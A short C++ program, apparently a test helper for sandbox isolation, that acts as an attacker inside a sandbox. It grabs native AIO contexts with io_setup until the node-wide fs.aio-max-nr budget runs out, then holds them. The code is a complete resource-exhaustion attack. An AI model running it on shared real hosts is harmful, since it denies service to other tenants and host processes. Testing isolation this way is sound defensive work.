// An attacker run inside a sandbox: takes native AIO contexts (io_setup) until the kernel refuses, prints
// "held N errno E" (N: events reserved), then holds them until killed. The budget they come from (fs.aio-max-nr) is
// one for the whole node: when a sandbox could take it all, every other process, host root included, got EAGAIN.
// Static, so it runs in any image.
#include <linux/aio_abi.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>

int main() {
  long held = 0;
  int err = 0;
  for (unsigned events = 4096; events > 0;) {
    aio_context_t ctx = 0;
    if (syscall(SYS_io_setup, events, &ctx) == 0) {
      held += events;
      continue;
    }
    err = errno;
    if (err != EAGAIN) break;
    events /= 2;  // the rest of the budget in smaller pieces
  }
  printf("held %ld errno %d\n", held, err);
  fflush(stdout);
  for (;;) pause();
}
